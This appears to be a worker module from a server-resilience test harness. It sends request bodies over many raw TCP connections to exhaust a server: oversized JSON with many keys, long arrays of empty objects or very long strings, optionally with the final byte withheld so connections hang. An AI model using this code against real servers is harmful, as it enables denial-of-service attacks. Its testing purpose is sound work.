// Sends hostile bodies to a server from a thread of its own, so that the thread that measures is never busy with them.
import { once } from "node:events";
import { connect } from "node:net";
import { Readable } from "node:stream";
import { parentPort, workerData } from "node:worker_threads";

export type Attack = {
  url: string;
  path: string;
  headers: Record<string, string>;
  body: { kind: "keys" | "objects" | "text"; sizeBytes: number };
  connections: number;
  /** Whether the last byte of each body is never sent. */
  unfinished: boolean;
};

const attack = workerData as Attack;
const body = bodyOf(attack.body);
const { hostname, port } = new URL(attack.url);

await Promise.all(Array.from({ length: attack.connections }, async () => await send()));
parentPort!.postMessage("answered");

/** Resolves when the server has answered or closed the connection. */
async function send(): Promise<void> {
  const socket = connect(Number(port), hostname);
  const headers = {
    Host: hostname,
    ...attack.headers,
    "Content-Type": "application/json",
    "Content-Length": String(attack.unfinished ? body.length + 1 : body.length),
  };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  socket.on("error", () => {});
  socket.write(`POST ${attack.path} HTTP/1.1\r\n${lines.join("")}\r\n`);
  Readable.from(pieces()).pipe(socket, { end: false });
  await Promise.race([once(socket, "data"), once(socket, "close")]);
}

function* pieces(): Generator<Buffer> {
  const pieceBytes = 64 * 1024;
  for (let at = 0; at < body.length; at += pieceBytes) yield body.subarray(at, at + pieceBytes);
}

function bodyOf({ kind, sizeBytes }: Attack["body"]): Buffer {
  if (kind === "objects") return Buffer.from(`[${"{},".repeat((sizeBytes - 4) / 3)}{}]`);
  if (kind === "text") return Buffer.from(`{"text":"${"x".repeat(sizeBytes - 11)}"}`);
  const keys: string[] = [];
  for (let length = 2; length < sizeBytes; length += keys.at(-1)!.length + 1)
    keys.push(`"k${String(keys.length).padStart(7, "0")}":1`);
  return Buffer.from(`{${keys.join(",")}}`);
}
